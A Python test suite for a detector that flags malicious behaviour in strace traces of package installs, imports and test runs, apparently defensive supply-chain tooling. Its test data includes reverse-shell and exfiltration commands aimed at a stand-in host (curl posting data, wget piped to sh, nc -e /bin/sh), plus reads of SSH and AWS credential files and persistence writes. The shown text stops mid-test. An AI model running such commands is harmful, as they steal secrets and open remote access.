"""The findings engine: every rule fires on its behaviour and stays quiet on the look-alike."""

from __future__ import annotations

import json
import posixpath
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guest_runner.phases.imports import IMPORT_CODE
from slave.findings import (
    Analyser,
    Context,
    Finding,
    analyse,
    classify,
    diff,
    profile,
    profile_from_json,
    profile_to_json,
    verdict,
)
from slave.findings.rules import EVENT_RULES, RULES, RUNNER_IMPORT_CODE, RUNNER_IMPORT_CODES

TOKEN = "bait-0123456789abcdef"
CTX = Context(bait_token=TOKEN)
FIXTURE = Path(__file__).with_name("test_findings_clean_trace.jsonl")
V = "/home/tester/venv"
SITE = f"{V}/lib/python3.11/site-packages"
# pid 100 is package code run by the build backend; pid 200 is pip itself.
PRELUDE = [
    f'100 execve("{V}/bin/python", ["{V}/bin/python", "{SITE}/pip/_vendor/pyproject_hooks/'
    '_in_process/_in_process.py", "build_wheel", "/tmp/x"], 0x1 /* 9 vars */) = 0',
    f'200 execve("{V}/bin/python", ["{V}/bin/python", "-m", "pip", "install", "x"], 0x1) = 0',
]


def rules_hit(phase: str, *lines: str, context: Context = CTX) -> dict[str, str]:
    """rule id → severity for everything the lines (after the prelude) produce."""
    analyser = Analyser(context)
    for line in PRELUDE:
        analyser.feed(phase, line)
    found: list[Finding] = []
    for line in lines:
        found += analyser.feed(phase, line)
    return {f.rule: f.severity for f in found}


def connect(family: str, addr: str, port: int, call: str = "connect") -> str:
    if family == "AF_INET":
        sa = f'{{sa_family=AF_INET, sin_port=htons({port}), sin_addr=inet_addr("{addr}")}}'
    else:
        sa = (
            f"{{sa_family=AF_INET6, sin6_port=htons({port}), sin6_flowinfo=htonl(0), "
            f'inet_pton(AF_INET6, "{addr}", &sin6_addr), sin6_scope_id=0}}'
        )
    return f"100 {call}(3<TCP:[77]>, {sa}, 16) = -1 ENETUNREACH (Network is unreachable)"


def execve(path: str, *argv: str, pid: int = 100, result: str = "0") -> str:
    args = ", ".join(json.dumps(a) for a in argv)
    return f'{pid} execve("{path}", [{args}], 0x7ffd /* 9 vars */) = {result}'


def openat(path: str, flags: str = "O_RDONLY|O_CLOEXEC", result: str = "3") -> str:
    return f'100 openat(AT_FDCWD</tmp/x>, "{path}", {flags}) = {result}'


W = "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0644"
HITS = [
    # (rule, phase, line, severity)
    ("net.dns", "install", connect("AF_INET", "10.0.2.3", 53), "high"),
    ("net.dns", "tests", connect("AF_INET", "10.0.2.3", 53), "low"),
    (
        "net.dns",
        "import",
        '100 sendto(5<UDP:[1]>, "\\x12\\x34\\1\\0"..., 29, MSG_NOSIGNAL, {sa_family=AF_INET, '
        'sin_port=htons(53), sin_addr=inet_addr("8.8.8.8")}, 16) = -1 ENETUNREACH (x)',
        "high",
    ),
    (
        "net.dns",
        "import",
        "100 sendmmsg(5<UDP:[10.0.2.15:4000->8.8.8.8:53]>, [{msg_hdr={}}], 2, MSG_NOSIGNAL) = 2",
        "high",
    ),
    ("net.connect", "install", connect("AF_INET6", "2a04:4e42::223", 443), "high"),
    ("net.connect", "tests", connect("AF_INET", "151.101.0.223", 443), "low"),
    ("net.connect", "tests", connect("AF_INET", "10.255.255.1", 80), "info"),
    ("net.connect", "tests", connect("AF_INET", "203.0.113.7", 443), "info"),
    ("net.connect", "install", connect("AF_INET", "203.0.113.7", 443), "high"),
    ("net.connect_loopback", "import", connect("AF_INET", "127.0.0.1", 8080), "low"),
    ("net.connect_loopback", "tests", connect("AF_INET6", "::1", 8080), "info"),
    ("net.listen", "import", "100 listen(3<TCP:[4242]>, 128) = 0", "medium"),
    ("net.raw_socket", "install", "100 socket(AF_PACKET, SOCK_RAW, 768) = -1 EPERM (x)", "medium"),
    (
        "net.raw_socket",
        "import",
        "100 socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) = -1 EPERM (x)",
        "medium",
    ),
    ("net.vsock", "import", "100 socket(AF_VSOCK, SOCK_STREAM|SOCK_CLOEXEC, 0) = 3", "high"),
    (
        "net.vsock",
        "tests",
        "100 connect(3, {sa_family=AF_VSOCK, svm_reserved1=0, svm_port=0x4d2, "
        "svm_cid=VMADDR_CID_HOST, svm_flags=0}, 16) = -1 ECONNRESET (Connection reset by peer)",
        "high",
    ),
    ("proc.exec_temp", "tests", execve("/tmp/pytest-of-t/p0/test_x0/script.sh", "s"), "low"),
    (
        "net.socket",
        "import",
        "100 socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC, IPPROTO_IP) = 3",
        "info",
    ),
    ("proc.network_tool", "install", execve("/usr/bin/curl", "curl", "-s", "http://x"), "high"),
    (
        "proc.network_tool",
        "install",
        execve("/usr/bin/wget", "wget", "x", result="-1 ENOENT (No such file or directory)"),
        "high",
    ),
    ("proc.network_tool", "tests", execve("/bin/nc", "nc", "1.2.3.4", "80"), "medium"),
    ("proc.shell", "import", execve("/bin/sh", "sh", "-c", "id"), "medium"),
    ("proc.shell", "install", execve("/bin/bash", "bash", "configure"), "low"),
    ("proc.shell", "tests", execve("/bin/sh", "sh", "-c", "true"), "info"),
    ("proc.encoder", "import", execve("/usr/bin/base64", "base64", "-d"), "medium"),
    (
        "proc.inline_code",
        "install",
        execve(f"{V}/bin/python", "python", "-c", "import os; os.system('id')"),
        "medium",
    ),
    # a build step's probe: inline code that reaches for nothing risky is only low
    (
        "proc.inline_code",
        "install",
        execve(f"{V}/bin/python", "python", "-c", "import sysconfig; print(sysconfig.get_paths())"),
        "low",
    ),
    ("proc.inline_code", "tests", execve("/usr/bin/perl", "perl", "-e", "print 1"), "low"),
    ("proc.exec_temp", "import", execve("/tmp/.x/payload", "payload"), "high"),
    (
        "proc.exec_temp",
        "import",
        '100 execveat(7</memfd:x (deleted)>, "", ["x"], 0x1 /* 0 vars */, AT_EMPTY_PATH) = 0',
        "high",
    ),
    ("proc.privilege_tool", "install", execve("/usr/bin/sudo", "sudo", "-n", "id"), "high"),
    ("proc.persistence_tool", "import", execve("/usr/bin/crontab", "crontab", "-"), "high"),
    ("proc.memfd", "import", '100 memfd_create("x", MFD_CLOEXEC) = 7</memfd:x>', "medium"),
    ("proc.started", "install", execve("/usr/bin/gcc", "gcc", "-c", "x.c"), "info"),
    ("cred.bait", "import", openat("/home/tester/.ssh/id_rsa"), "critical"),
    ("cred.bait", "tests", openat("/home/tester/.aws/credentials"), "critical"),
    (
        "cred.bait",
        "install",
        '100 openat(AT_FDCWD</home/tester>, ".ssh/id_rsa", O_RDONLY) = 3</home/tester/.ssh/id_rsa>',
        "critical",
    ),
    ("cred.ssh", "install", openat("/home/tester/.ssh/known_hosts"), "high"),
    ("cred.store", "import", openat("/home/tester/.netrc"), "high"),
    ("cred.store", "tests", openat("/home/tester/.mozilla/firefox/a/logins.json"), "medium"),
    ("cred.store", "import", openat("/home/tester/.local/share/keyrings/login.keyring"), "high"),
    ("cred.system", "install", openat("/etc/shadow", result="-1 EACCES (x)"), "high"),
    ("cred.passwd", "install", openat("/etc/passwd"), "low"),
    ("cred.environ", "import", openat("/proc/1/environ"), "high"),
    ("cred.environ", "import", openat("/proc/self/environ"), "medium"),
    ("evasion.vm_probe", "install", openat("/sys/class/dmi/id/sys_vendor"), "low"),
    (
        "evasion.vm_probe",
        "import",
        '100 openat(AT_FDCWD</x>, "/sys/class/dmi/id/product_name", O_RDONLY) = '
        "3</sys/devices/virtual/dmi/id/product_name>",
        "low",
    ),
    ("evasion.vm_probe", "tests", openat("/sys/hypervisor/type"), "info"),
    ("cred.token", "install", execve("/bin/true", "true", f"x={TOKEN}"), "critical"),
    (
        "cred.token_name",
        "install",
        execve("/bin/sh", "sh", "-c", "echo $PYTI_BAIT_TOKEN"),
        "medium",
    ),
    ("fs.write_outside", "install", openat("/etc/x.conf", W, "-1 EACCES (x)"), "medium"),
    ("fs.write_outside", "tests", openat("/home/tester/.config/app/x", W), "low"),
    ("fs.write_cache", "import", openat("/home/tester/.cache/matplotlib/f.json", W), "info"),
    ("persist.shell_rc", "install", openat("/home/tester/.bashrc", "O_WRONLY|O_APPEND"), "high"),
    (
        "persist.service",
        "import",
        '100 rename("/tmp/u", "/home/tester/.config/systemd/user/x.service") = 0',
        "high",
    ),
    ("persist.cron", "install", openat("/var/spool/cron/crontabs/tester", W), "high"),
    (
        "persist.authorized_keys",
        "import",
        '100 openat(AT_FDCWD</tmp>, "/home/tester/.ssh/authorized_keys", O_WRONLY|O_APPEND) = 3',
        "critical",
    ),
    ("persist.site_hook", "install", openat(f"{SITE}/zzz.pth", W), "high"),
    ("persist.site_hook", "import", openat(f"{SITE}/sitecustomize.py", W), "high"),
    ("priv.setid", "install", "100 setuid(0) = -1 EPERM (Operation not permitted)", "high"),
    ("priv.setid", "tests", "100 setresgid(0, 0, 0) = -1 EPERM (x)", "medium"),
    ("priv.ptrace", "import", "100 ptrace(PTRACE_ATTACH, 1) = -1 EPERM (x)", "high"),
    ("priv.ptrace", "import", "100 ptrace(PTRACE_TRACEME) = -1 EPERM (x)", "medium"),
    (
        "priv.process_vm",
        "import",
        "100 process_vm_readv(1, [{}], 1, [{}], 1, 0) = -1 EPERM",
        "high",
    ),
    ("priv.kernel", "install", '100 mount("none", "/mnt", "tmpfs", 0, NULL) = -1 EPERM', "high"),
    ("priv.namespace", "import", "100 unshare(CLONE_NEWUSER) = 0", "medium"),
    ("priv.setid_bits", "install", '100 chmod("/tmp/sh", 04755) = 0', "high"),
    ("priv.setid_bits", "tests", '100 chmod("/tmp/t/g77", 04001) = 0', "low"),
    ("res.disk_full", "install", '100 mkdir("/tmp/a", 0777) = -1 ENOSPC (No space left)', "medium"),
]


@pytest.mark.parametrize(("rule", "phase", "line", "severity"), HITS)
def test_rule_fires(rule: str, phase: str, line: str, severity: str) -> None:
    """Each rule fires on the behaviour it describes, with the phase's severity."""
    assert rules_hit(phase, line).get(rule) == severity


QUIET = [
    # (rule that must stay quiet, phase, look-alike line)
    ("net.dns", "install", connect("AF_INET", "10.0.2.3", 5353)),
    ("net.connect", "install", connect("AF_INET", "127.0.0.1", 443)),
    (
        "net.connect",
        "install",
        '100 connect(4<UNIX:[9]>, {sa_family=AF_UNIX, sun_path="/x"}, 110) = 0',
    ),
    ("net.connect_loopback", "install", connect("AF_INET", "10.1.1.1", 80)),
    ("net.listen", "import", "100 listen(3<UNIX:[4242]>, 128) = 0"),
    ("net.raw_socket", "import", "100 socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 3"),
    # glibc's getaddrinfo/if_nameindex: a routing socket, not a raw network socket
    (
        "net.raw_socket",
        "import",
        "100 socket(AF_NETLINK, SOCK_RAW|SOCK_CLOEXEC, NETLINK_ROUTE) = 3",
    ),
    ("net.socket", "install", "200 socket(AF_INET6, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = 3"),
    ("net.vsock", "import", "100 socket(AF_UNIX, SOCK_STREAM|SOCK_CLOEXEC, 0) = 3"),
    ("net.vsock", "import", connect("AF_INET", "203.0.113.7", 443)),
    ("net.socket", "install", "100 socket(AF_UNIX, SOCK_STREAM|SOCK_CLOEXEC, 0) = 3"),
    ("proc.network_tool", "install", execve("/usr/bin/curlish", "curlish")),
    ("proc.shell", "install", execve("/usr/bin/shellcheck", "shellcheck")),
    (
        "proc.inline_code",
        "import",
        execve(f"{V}/bin/python", "python", "-X", "faulthandler", "-c", RUNNER_IMPORT_CODE, "demo"),
    ),
    ("proc.inline_code", "install", execve("/usr/bin/perl", "perl", "Makefile.PL")),
    ("proc.exec_temp", "install", execve("/tmp/pyti-job-a/tmp/pip-req-build-x/configure", "c")),
    ("proc.exec_temp", "install", execve("/tmp/pyti-job-a/pyti-build/src/d-1/configure", "c")),
    ("proc.started", "install", execve(f"{V}/bin/python", "python", "-m", "pip", "install", "y")),
    ("proc.started", "install", execve("/usr/bin/lsb_release", "lsb_release", "-a", pid=200)),
    ("proc.started", "tests", execve(f"{V}/bin/python", "python", "-m", "pytest", "-q")),
    ("proc.started", "install", execve("/usr/bin/curl", "curl")),
    ("cred.bait", "import", openat("/home/tester/.ssh/id_rsa.pub.notes")),
    ("cred.bait", "import", openat("/home/other/.ssh/id_rsa")),
    ("cred.ssh", "import", openat("/home/tester/.sshrc")),
    ("cred.store", "import", openat("/home/tester/.awsome/x")),
    ("cred.system", "import", openat("/etc/shadowsocks.json")),
    ("cred.passwd", "install", openat("/etc/os-release")),
    ("cred.environ", "import", openat("/proc/self/cmdline")),
    ("evasion.vm_probe", "import", openat("/proc/cpuinfo")),  # numpy, psutil: CPU features
    ("evasion.vm_probe", "import", openat("/sys/class/dmi/id/power")),
    ("evasion.vm_probe", "import", openat("/sys/devices/system/cpu/online")),
    ("cred.token", "install", execve("/bin/true", "true", TOKEN[:-1] + "X")),
    ("fs.write_outside", "install", openat(f"{SITE}/demo/__init__.py", W)),
    ("fs.write_outside", "tests", openat("/tmp/pyti-job-a/src/x.pyc", W)),
    ("fs.write_outside", "install", openat("/dev/null", "O_WRONLY")),
    ("fs.write_outside", "import", openat("/etc/hosts")),
    ("persist.shell_rc", "install", openat("/home/tester/.bashrc")),
    ("persist.site_hook", "install", openat(f"{SITE}/zzz.pth", W).replace("100 ", "200 ", 1)),
    ("persist.site_hook", "install", openat(f"{SITE}/zzz.pth")),
    ("priv.setid_bits", "install", '100 chmod("/tmp/x", 0755) = 0'),
    ("priv.ptrace", "import", "100 prctl(PR_SET_DUMPABLE, 0) = 0"),
    ("res.disk_full", "install", '100 mkdir("/tmp/a", 0777) = -1 EEXIST (File exists)'),
]


@pytest.mark.parametrize(("rule", "phase", "line"), QUIET)
def test_rule_stays_quiet_on_look_alikes(rule: str, phase: str, line: str) -> None:
    """Near misses (other ports, paths, processes, flags) do not fire the rule."""
    assert rule not in rules_hit(phase, line)


def test_vsock_target_names_cid_and_port() -> None:
    """A vsock connect's target is its CID and decimal port, as strace (6.1) prints them."""
    line = (
        "100 connect(3<VSOCK:[9]>, {sa_family=AF_VSOCK, svm_reserved1=0, svm_port=0x4d2, "
        "svm_cid=VMADDR_CID_HOST, svm_flags=0}, 16) = -1 ECONNRESET (Connection reset by peer)"
    )
    (finding,) = analyse("import", line, CTX)
    assert (finding.rule, finding.target) == ("net.vsock", "cid VMADDR_CID_HOST port 1234")


def test_every_rule_has_a_firing_test() -> None:
    """No rule in the table goes untested."""
    tested = {h[0] for h in HITS} | {"res.fork_bomb"} | {r.id for r in EVENT_RULES}
    assert {r.id for r in RULES} <= tested


def test_fork_bomb_needs_many_eagain() -> None:
    """Twenty failed clones make one fork-bomb finding; nineteen make none."""
    line = (
        "100 clone(child_stack=NULL, flags=SIGCHLD) = -1 EAGAIN (Resource temporarily unavailable)"
    )
    assert "res.fork_bomb" not in rules_hit("import", *[line] * 19)
    assert rules_hit("import", *[line] * 40)["res.fork_bomb"] == "high"


def test_findings_name_the_process_and_dedupe() -> None:
    """A finding carries the label of the exec'd program; repeats of one target collapse."""
    analyser = Analyser(CTX)
    analyser.feed("install", PRELUDE[0])
    analyser.feed("install", "100 vfork( <unfinished ...>")
    # the vforked child execs before its parent's vfork returns
    analyser.feed("install", execve("/bin/sh", "sh", "-c", "./fetch x", pid=101))
    analyser.feed("install", "100 <... vfork resumed>) = 101")
    found = analyser.feed("install", execve("/usr/bin/curl", "curl", "x", pid=101))
    found += analyser.feed("install", execve("/usr/bin/curl", "curl", "y", pid=101))
    assert [(f.rule, f.process) for f in found] == [("proc.network_tool", "sh")]
    shell = next(f for f in analyser.findings if f.rule == "proc.shell")
    assert (shell.process, shell.pid, shell.target) == ("build-backend", 101, "sh")


@pytest.mark.parametrize(
    ("script", "tools"),
    [
        ("curl -s -d @- https://203.0.113.7/c?t=x", ["curl"]),
        ("cd /tmp && FOO=1 wget -q http://x/y | sh; echo done", ["wget"]),
        ("exec nc -e /bin/sh 203.0.113.7 4444", ["nc"]),
        ("x=$(curl http://x/); echo $x", ["curl"]),
        ("echo curl wget host", []),
        ("ls -l", []),
    ],
)
def test_shell_script_naming_a_network_tool(script: str, tools: list[str]) -> None:
    """sh -c naming curl/wget/nc in command position is found even if the tool is missing."""
    analyser = Analyser(CTX)
    analyser.feed("import", execve(f"{V}/bin/python", "python", "-c", RUNNER_IMPORT_CODE, "m"))
    line = execve("/usr/bin/sh", "sh", "-c", script)
    found = [f for f in analyser.feed("import", line) if f.rule == "proc.network_tool"]
    assert [f.target for f in found] == tools
    assert all(f.process == "import m" and f.severity == "high" for f in found)


def test_token_in_a_vforked_childs_exec_names_the_parent() -> None:
    """The bait token in a child's argv is blamed on the program that started it."""
    analyser = Analyser(CTX)
    analyser.feed("import", execve(f"{V}/bin/python", "python", "-c", RUNNER_IMPORT_CODE, "m"))
    analyser.feed("import", "100 vfork( <unfinished ...>")
    missing = "-1 ENOENT (No such file or directory)"
    line = execve("/usr/bin/sh", "sh", "-c", f"echo {TOKEN}", pid=101, result=missing)
    found = analyser.feed("import", line)
    token = next(f for f in found if f.rule == "cred.token")
    assert (token.process, token.pid) == ("import m", 101)


def test_runner_facts_become_findings() -> None:
    """Timeouts, output and trace floods and .pth files with code come from runner events."""
    analyser = Analyser(CTX)
    analyser.feed_event(
        {"event": "phase_finished", "phase": "import", "status": "timed_out",
         "output_dropped": 10, "trace_dropped": 0}
    )  # fmt: skip
    analyser.feed_event(
        {"event": "phase_finished", "phase": "tests", "status": "passed",
         "output_dropped": 0, "trace_dropped": 5}
    )  # fmt: skip
    analyser.feed_event(
        {"event": "pth_files", "phase": "install", "files": [
            {"name": "evil.pth", "imports": True, "lines": ["import os; os.system('x')"]},
            {"name": "distutils-precedence.pth", "imports": True, "lines": ["import os"]},
            {"name": "paths.pth", "imports": False, "lines": []},
            "garbage",
        ]}
    )  # fmt: skip
    got = {(f.rule, f.phase, f.target, f.severity) for f in analyser.findings}
    assert got == {
        ("res.timeout", "import", "timeout", "low"),
        ("res.output_flood", "import", "output cap", "low"),
        ("res.trace_flood", "tests", "trace cap", "low"),
        ("persist.pth_import", "install", "evil.pth", "medium"),
        ("persist.pth_import", "install", "distutils-precedence.pth", "info"),
    }


def test_resource_facts_become_findings() -> None:
    """A full disk and an OOM kill seen by the runner are findings, lower in the tests phase."""
    analyser = Analyser(CTX)
    full = {"event": "phase_finished", "phase": "import", "status": "passed",
            "disk_free_min": 0, "disk_total": 4 << 30, "oom_kills": 1}  # fmt: skip
    roomy = {**full, "phase": "install", "disk_free_min": 3 << 30, "oom_kills": 0}
    analyser.feed_event(full)
    analyser.feed_event({**full, "phase": "tests"})
    analyser.feed_event(roomy)
    analyser.feed_event({**full, "phase": "quality", "disk_free_min": "0", "oom_kills": True})
    got = {(f.rule, f.phase, f.target, f.severity) for f in analyser.findings}
    assert got == {
        ("res.disk_filled", "import", "disk", "medium"),
        ("res.oom", "import", "oom kill", "medium"),
        ("res.disk_filled", "tests", "disk", "low"),
        ("res.oom", "tests", "oom kill", "low"),
    }
    assert "'disk_free_min': 0" in analyser.findings[0].evidence


def test_processes_that_outlived_their_command_become_findings() -> None:
    """Each outlived process is a finding named by its argv: medium early, low in tests."""
    analyser = Analyser(CTX)
    payload = {"pid": 412, "argv": ["python3", "-c", "import time; time.sleep(5)"],
               "killed": False}  # fmt: skip
    daemon = {"pid": 413, "argv": ["sleep", "300"], "killed": True}
    event = {"event": "phase_finished", "phase": "import", "status": "passed",
             "outlived": [payload, daemon]}  # fmt: skip
    analyser.feed_event(event)
    analyser.feed_event({**event, "phase": "tests", "outlived": [daemon]})
    analyser.feed_event({**event, "phase": "install"})  # no field: nothing
    del event["outlived"]
    analyser.feed_event({**event, "phase": "install"})
    analyser.feed_event({**event, "outlived": "x"})  # malformed: nothing
    analyser.feed_event({**event, "outlived": [1, {"argv": "x"}]})
    got = {(f.rule, f.phase, f.target, f.severity) for f in analyser.findings}
    assert got == {
        ("proc.outlived_phase", "import", "python3 -c import time; time.sleep(5)", "medium"),
        ("proc.outlived_phase", "import", "sleep 300", "medium"),
        ("proc.outlived_phase", "tests", "sleep 300", "low"),
        ("proc.outlived_phase", "install", "python3 -c import time; time.sleep(5)", "medium"),
        ("proc.outlived_phase", "install", "sleep 300", "medium"),
        ("proc.outlived_phase", "import", "?", "medium"),
    }
    assert "'killed': True" in analyser.findings[1].evidence
    assert verdict(analyser.findings) == "suspicious"  # a medium alone: row 4


def clean_install_events() -> list[dict[str, object]]:
    """The real trace of a clean release's install, import and tests (the 1.4.1 of a project)."""
    return [json.loads(line) for line in FIXTURE.read_text().splitlines()]


def with_socket_at_install(events: list[dict[str, object]]) -> list[dict[str, object]]:
    """The same run, but the build backend opens a TCP socket to 203.0.113.7:443 (its 1.4.2)."""
    out = list(events)
    at = next(
        i for i, e in enumerate(out)
        if "_in_process.py" in str(e.get("line")) and "execve(" in str(e.get("line"))
    )  # fmt: skip
    pid = int(str(out[at]["line"]).split()[0])
    # just before the backend exits: its exec has surely completed by then
    at = max(i for i, e in enumerate(out) if e.get("pid") == pid and "+++" not in str(e["line"]))
    added = [
        f"{pid}  socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = 5<TCP:[4711]>",
        f"{pid}  connect(5<TCP:[4711]>, {{sa_family=AF_INET, sin_port=htons(443), "
        'sin_addr=inet_addr("203.0.113.7")}, 16) = -1 ENETUNREACH (Network is unreachable)',
    ]
    out[at + 1 : at + 1] = [
        {"event": "trace", "phase": "install", "pid": pid, "line": line} for line in added
    ]
    return out


def release_profile(events: list[dict[str, object]]) -> object:
    """What a slave's result summary carries for one run: the profile as JSON data."""
    analyser = Analyser(Context(bait_token="bait-fixture-token"))
    for event in events:
        analyser.feed_event(event)
    return json.loads(json.dumps(profile_to_json(profile(analyser.findings))))


def test_diff_of_two_real_releases_shows_sockets_at_install() -> None:
    """1.4.1 (clean) vs 1.4.2 (connects out from its build): the diff names exactly that."""
    stored_141 = release_profile(clean_install_events())
    stored_142 = release_profile(with_socket_at_install(clean_install_events()))
    old, new = profile_from_json(stored_141), profile_from_json(stored_142)
    assert old < new  # the clean run profiles as nothing unusual
    changes = [str(c) for c in diff(old, new)]
    assert sorted(changes) == [
        "started opening sockets at install time (AF_INET)",
        "started reaching for the network at install time (203.0.113.7:443)",
    ]
    assert diff(new, old)[0].change == "stopped"
    assert diff(new, profile_from_json(stored_142)) == []


@pytest.mark.parametrize(
    "data",
    [None, "x", {"a": 1}, [["install", "socket"]], [["install", "socket", 1]], [[1, 2, 3]]],
)
def test_profile_from_json_skips_malformed_data(data: object) -> None:
    """A stored profile that is not a list of [str, str, str] reads as empty, never raises."""
    assert profile_from_json(data) == frozenset()


def test_profile_from_json_bounds_hostile_profiles() -> None:
    """Entries are capped in number and length; good entries among bad ones survive."""
    data: list[object] = [["install", "network", "x" * 10_000], "junk"]
    data += [["tests", "process", f"p{i}"] for i in range(5000)]
    got = profile_from_json(data)
    assert len(got) == 1999  # 2000 read, one of them junk
    assert ("install", "network", "x" * 500) in got


def test_trace_events_feed_the_line_rules() -> None:
    """A runner 'trace' event is analysed like its strace line; junk events give nothing."""
    analyser = Analyser(CTX)
    found = analyser.feed_event({"event": "trace", "phase": "import", "pid": 1,
                                 "line": openat("/home/tester/.ssh/id_rsa")})  # fmt: skip
    assert [f.rule for f in found] == ["cred.bait"]
    assert analyser.feed_event({"event": "trace", "phase": "import", "line": 42}) == []
    assert analyser.feed_event({"event": "nonsense"}) == []


def test_findings_per_rule_are_capped() -> None:
    """A package touching thousands of distinct paths yields a bounded number of findings."""
    analyser = Analyser(CTX)
    for i in range(500):
        analyser.feed("install", openat(f"/etc/x{i}", W))
    assert len(analyser.findings) == 50
    assert analyser.suppressed == 450


def test_clean_install_import_and_tests_have_no_findings_above_info() -> None:
    """Real strace output of pip install (sdist build), import and pytest of a clean package."""
    analyser = Analyser(Context(bait_token="bait-fixture-token"))
    lines = FIXTURE.read_text().splitlines()
    assert len(lines) > 1000
    for line in lines:
        analyser.feed_event(json.loads(line))
    assert [f for f in analyser.findings if f.severity != "info"] == []
    assert verdict(analyser.findings) == "clean"


def test_analyse_single_line() -> None:
    """analyse() judges one line on its own."""
    (finding,) = analyse("install", openat("/home/tester/.aws/credentials"), CTX)
    assert (finding.rule, finding.severity, finding.phase, finding.pid) == (
        "cred.bait", "critical", "install", 100
    )  # fmt: skip
    assert finding.target == "~/.aws/credentials"


def f(rule: str, severity: str, phase: str = "install", target: str = "") -> Finding:
    return Finding(rule, severity, phase, 1, "p", "e", target)  # type: ignore[arg-type]


def s(rule: str, severity: str, phase: str = "install", target: str = "setup.py") -> Finding:
    evidence = "x.tar.gz:setup.py:1: e"
    return Finding(rule, severity, phase, None, "static", evidence, target, source="static")  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("findings", "expected"),
    [
        # row 5: nothing above low
        ([], "clean"),
        ([f("proc.started", "info"), f("cred.passwd", "low")], "clean"),
        ([s("static.cmd_overwrite", "low")], "clean"),
        # row 4: medium, or a lone high that is not a threat at install/import
        ([f("fs.write_outside", "medium")], "suspicious"),
        ([f("res.fork_bomb", "high", "tests")], "suspicious"),
        ([f("res.fork_bomb", "high", "install")], "suspicious"),
        ([f("net.connect", "high", "tests"), f("cred.system", "high", "tests")], "suspicious"),
        ([s("static.exec_encoded", "high", "import")], "suspicious"),
        ([s("static.reverse_shell", "high", "run")], "suspicious"),
        # row 2: a dynamic high of a threat class at install or import
        ([f("net.connect", "high"), f("net.connect", "high", target="b")], "malicious"),
        ([f("cred.ssh", "high", "import")], "malicious"),
        ([f("persist.cron", "high", "install")], "malicious"),
        ([f("proc.exec_temp", "high", "import")], "malicious"),
        # row 3: two different high rules outside tests, static ones corroborating
        ([f("res.fork_bomb", "high"), f("priv.setid", "high", "tests")], "suspicious"),
        ([s("static.exec_encoded", "high", "import"), f("res.fork_bomb", "high")], "malicious"),
        ([s("static.exec_encoded", "high"), s("static.dangerous_command", "high")], "malicious"),
        # row 1: critical, dynamic or static
        ([f("cred.bait", "critical")], "malicious"),
        ([f("cred.bait", "critical", "tests")], "malicious"),
        ([s("static.reverse_shell", "critical")], "malicious"),
    ],
)
def test_verdict_table(findings: list[Finding], expected: str) -> None:
    """The verdict table of docs/verdicts.md, row by row."""
    assert verdict(findings) == expected


def test_profile_diff_describes_new_behaviour() -> None:
    """A release that starts opening sockets at install time shows up as such in the diff."""
    old = profile([f("proc.started", "info", target="gcc")])
    new = profile(
        [f("proc.started", "info", target="gcc"), f("proc.started", "info", target="git"),
         f("net.socket", "info", target="AF_INET")]
    )  # fmt: skip
    assert ("install", "socket", "AF_INET") in new
    texts = [str(c) for c in diff(old, new)]
    assert "started opening sockets at install time (AF_INET)" in texts
    assert "starting programs at install time: new targets (git)" in texts
    assert "stopped opening sockets at install time (AF_INET)" in [str(c) for c in diff(new, old)]
    assert diff(new, new) == []


PIP_SHIM_OLD = (
    "import io, os, sys, setuptools, tokenize; sys.argv[0] = '/tmp/pip-req-build-x/setup.py'; "
    "__file__='/tmp/pip-req-build-x/setup.py';f = getattr(tokenize, 'open', open)(__file__) "
    "if os.path.exists(__file__) else io.StringIO('from setuptools import setup; setup()');"
    "code = f.read().replace('\\r\\n', '\\n');f.close();exec(compile(code, __file__, 'exec'))"
)
PIP_SHIM_NEW = (
    "\nexec(compile('''\n# This is <pip-setuptools-caller> -- a caller that pip uses to run "
    "setup.py\n#\nimport os, sys, tokenize\n...\n''' % ('/tmp/pip-req-build-x/setup.py',), "
    '"<pip-setuptools-caller>", "exec"))'
)


def test_pip_setup_shim_is_not_inline_code() -> None:
    """pip's python -c shim for a legacy setup.py is setup.py, traced as such, not inline code."""
    for shim in (PIP_SHIM_OLD, PIP_SHIM_NEW):
        analyser = Analyser(CTX)
        analyser.feed("install", PRELUDE[1])  # pid 200: pip
        analyser.feed("install", "200 clone(child_stack=NULL, flags=SIGCHLD) = 300")
        found = analyser.feed("install", execve(f"{V}/bin/python", "python", "-c", shim, pid=300))
        assert found == []
        (spawn,) = analyser.feed("install", execve("/usr/bin/gcc", "gcc", "-c", "x.c", pid=300))
        assert (spawn.rule, spawn.process) == ("proc.started", "setup.py")


def test_pip_setup_shim_from_package_code_is_still_inline_code() -> None:
    """The shim's text run by package code (not by pip) is inline code like any other."""
    line = execve(f"{V}/bin/python", "python", "-c", PIP_SHIM_OLD + "; import os")
    assert rules_hit("install", line).get("proc.inline_code") == "medium"


# uv's PEP 517 hook runner and interpreter probe, as uv 0.13 writes them (argv of its execs).
UV_HOOK = (
    'import sys\n\nif sys.path[0] == "":\n    sys.path.pop(0)\n\nsys.path = [] + sys.path\n\n'
    "import setuptools.build_meta as backend\n\n\nwheel_filename = backend.build_wheel("
    '__import__("os").fsdecode(b"/home/tester/.cache/uv/builds-v0/.tmpb"), {}, None)\n'
)
UV_PROBE_CODE = (
    'import sys; sys.path = [__import__("os").fsdecode(b"/home/tester/.cache/uv/.tmpL")] + '
    "sys.path; from python.get_interpreter_info import main; main()"
)
UV = "/opt/pyti/tools/bin/uv"


def test_uv_shims_are_its_build_backend_and_probe() -> None:
    """uv's python -c hook runner is the build backend (its children are package code) and its
    interpreter probe is expected: neither is inline code when uv starts them."""
    analyser = Analyser(CTX)
    assert analyser.feed("install", execve(UV, "uv", "pip", "install", "x.tar.gz", pid=200)) == []
    analyser.feed("install", "200 clone3({flags=CLONE_VM|CLONE_VFORK, exit_signal=SIGCHLD}) = 300")
    analyser.feed("install", "200 clone3({flags=CLONE_VM|CLONE_VFORK, exit_signal=SIGCHLD}) = 301")
    probe = execve(f"{V}/bin/python", "python", "-I", "-B", "-c", UV_PROBE_CODE, pid=301)
    assert analyser.feed("install", probe) == []
    hook = execve("/home/tester/.cache/uv/builds-v0/.tmpb/bin/python", "python", "-c", UV_HOOK,
                  pid=300)  # fmt: skip
